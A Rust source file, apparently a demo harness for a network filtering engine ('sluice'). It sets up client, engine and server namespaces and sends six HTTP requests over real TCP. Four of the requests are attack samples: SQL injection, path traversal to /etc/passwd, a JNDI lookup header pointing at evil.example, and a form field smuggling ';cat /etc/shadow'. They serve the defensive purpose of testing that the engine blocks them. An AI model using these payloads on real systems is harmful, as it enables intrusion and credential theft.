//! Two hosts in network namespaces of their own, veth cables to the engine between them, real TCP.
//!
//! ```text
//!   client             engine                server
//!   a0 ─────veth────── a1   b1 ─────veth────── b0
//!   10.99.0.1/24                      10.99.0.2/24
//! ```

use std::fs::File;
use std::io::{ErrorKind, Read, Write};
use std::net::{IpAddr, Ipv4Addr, SocketAddr, TcpListener, TcpStream};
use std::os::fd::AsRawFd;
use std::path::Path;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use nix::sched::{CloneFlags, setns, unshare};
use serde_json::Value;

use super::{Engine, Failure, Scene, device};
use crate::port::ethtool::{Ethtool, Offload};
use crate::port::facts::{add_address, make_cable, set_up};

const CLIENT: IpAddr = IpAddr::V4(Ipv4Addr::new(10, 99, 0, 1));
const SERVER: IpAddr = IpAddr::V4(Ipv4Addr::new(10, 99, 0, 2));
const PORT: u16 = 80;
/// How long a host waits before it says that nothing came.
const WAIT: Duration = Duration::from_millis(1500);
/// Bytes of the large download.
const DOWNLOAD_BYTES: usize = 8 << 20;

/// A network namespace without a name.
struct Namespace {
    file: File,
}

impl Namespace {
    fn new() -> std::io::Result<Namespace> {
        let made = std::thread::spawn(|| {
            unshare(CloneFlags::CLONE_NEWNET)?;
            File::open("/proc/thread-self/ns/net")
        });
        let file = made
            .join()
            .unwrap_or_else(|_| Err(std::io::Error::other("a thread panicked")))?;
        Ok(Namespace { file })
    }

    /// Does something inside: sockets and processes made there stay there.
    fn inside<T: Send>(
        &self,
        work: impl FnOnce() -> std::io::Result<T> + Send,
    ) -> std::io::Result<T> {
        std::thread::scope(|scope| {
            let thread = scope.spawn(|| {
                setns(&self.file, CloneFlags::CLONE_NEWNET)?;
                work()
            });
            thread
                .join()
                .unwrap_or_else(|_| Err(std::io::Error::other("a thread panicked")))
        })
    }
}

/// The three namespaces, cabled.
pub struct Stage {
    client: Namespace,
    engine: Namespace,
    server: Namespace,
}

impl Stage {
    /// Makes them, or says why it cannot.
    pub fn new() -> Result<Stage, String> {
        let made = || -> std::io::Result<Stage> {
            let stage = Stage {
                client: Namespace::new()?,
                engine: Namespace::new()?,
                server: Namespace::new()?,
            };
            stage.engine.inside(|| {
                make_cable("a1", "a0", stage.client.file.as_raw_fd())?;
                make_cable("b1", "b0", stage.server.file.as_raw_fd())?;
                set_up("a1")?;
                set_up("b1")
            })?;
            let ends = [(&stage.client, "a0", CLIENT), (&stage.server, "b0", SERVER)];
            for (namespace, name, address) in ends {
                namespace.inside(|| {
                    set_up(name)?;
                    add_address(name, address, 24)?;
                    // What leaves here is cut here, as it is on a cable.
                    let device = Ethtool::open(name)?;
                    device.switch_off(Offload::Tso)?;
                    device.switch_off(Offload::Gso)
                })?;
            }
            Ok(stage)
        };
        made().map_err(|error| format!("no network namespaces here: {error}"))
    }
}

/// What the client asks for, and what it is.
const REQUESTS: [(&str, &str); 6] = [
    ("a page", "GET /index.html HTTP/1.1\r\nHost: demo\r\n\r\n"),
    ("8 MiB", "GET /large HTTP/1.1\r\nHost: demo\r\n\r\n"),
    (
        "a page, with SQL in the query",
        "GET /item?id=1+UNION+SELECT+1 HTTP/1.1\r\nHost: demo\r\n\r\n",
    ),
    (
        "/etc/passwd through ../",
        "GET /../../etc/passwd HTTP/1.1\r\nHost: demo\r\n\r\n",
    ),
    (
        "a page, with ${jndi:ldap://...} in a header",
        "GET /index.html HTTP/1.1\r\nHost: demo\r\nX: ${jndi:ldap://evil.example/x}\r\n\r\n",
    ),
    (
        "/etc/shadow by ;cat in a form",
        "POST /form HTTP/1.1\r\nHost: demo\r\nContent-Length: 21\r\n\r\nname=x;cat /etc/shadow",
    ),
];

/// The traffic, and the engine's summary of it.
///
/// # Errors
/// An engine that does not start.
pub fn play(
    stage: &Stage,
    folder: &Path,
    stop: &AtomicBool,
) -> Result<(Vec<Scene>, Value), Failure> {
    println!("client 10.99.0.1 ──── sluice run --inline ──── server 10.99.0.2 (real TCP)\n");
    let started = stage
        .engine
        .inside(|| Ok(Engine::start(folder, "a1", "b1")));
    let mut engine = started.map_err(device("a namespace"))??;
    engine.wait()?;
    let to = SocketAddr::new(SERVER, PORT);
    let listener = stage.server.inside(|| TcpListener::bind(to));
    let listener = listener.map_err(device("the server"))?;
    let done = AtomicBool::new(false);
    let scenes = std::thread::scope(|scope| {
        let (listener, done) = (&listener, &done);
        scope.spawn(move || serve(scope, listener, done));
        // All at once: those that are dropped take as long as the client is patient.
        let clients: Vec<_> = REQUESTS
            .iter()
            .filter(|_| !stop.load(Ordering::Relaxed))
            .map(|(what, request)| {
                let ask = move || stage.client.inside(|| Ok(ask(to, request)));
                (what, scope.spawn(ask))
            })
            .collect();
        let scenes: Vec<Scene> = clients
            .into_iter()
            .map(|(what, client)| Scene {
                what: format!("the client asks for {what}:"),
                seen: match client.join() {
                    Ok(Ok(seen)) => seen,
                    _ => "the client failed".to_string(),
                },
            })
            .collect();
        done.store(true, Ordering::Relaxed);
        scenes
    });
    Ok((scenes, engine.stop()?))
}

/// One request, and what the client saw.
fn ask(to: SocketAddr, request: &str) -> String {
    let asked = || -> std::io::Result<usize> {
        let mut stream = TcpStream::connect_timeout(&to, WAIT)?;
        stream.set_read_timeout(Some(WAIT))?;
        stream.write_all(request.as_bytes())?;
        let mut answer = Vec::new();
        stream.read_to_end(&mut answer)?;
        Ok(answer.len())
    };
    match asked() {
        Ok(0) => "an empty answer".to_string(),
        Ok(bytes) => format!("answered, {bytes} bytes"),
        Err(error) => match error.kind() {
            ErrorKind::WouldBlock | ErrorKind::TimedOut => "no answer".to_string(),
            ErrorKind::ConnectionReset => "connection reset".to_string(),
            _ => error.to_string(),
        },
    }
}

/// Answers requests until the clients are done.
fn serve<'scope>(
    scope: &'scope std::thread::Scope<'scope, '_>,
    listener: &'scope TcpListener,
    done: &'scope AtomicBool,
) {
    if listener.set_nonblocking(true).is_err() {
        return;
    }
    while !done.load(Ordering::Relaxed) {
        let Ok((mut stream, _)) = listener.accept() else {
            std::thread::sleep(Duration::from_millis(2));
            continue;
        };
        scope.spawn(move || -> std::io::Result<()> {
            stream.set_nonblocking(false)?;
            stream.set_read_timeout(Some(WAIT))?;
            let mut request = [0; 1024];
            let got = stream.read(&mut request)?;
            let large = request[..got].starts_with(b"GET /large");
            let body = vec![b'.'; if large { DOWNLOAD_BYTES } else { 4000 }];
            let head = format!(
                "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
                body.len()
            );
            stream.write_all(head.as_bytes())?;
            stream.write_all(&body)
        });
    }
}
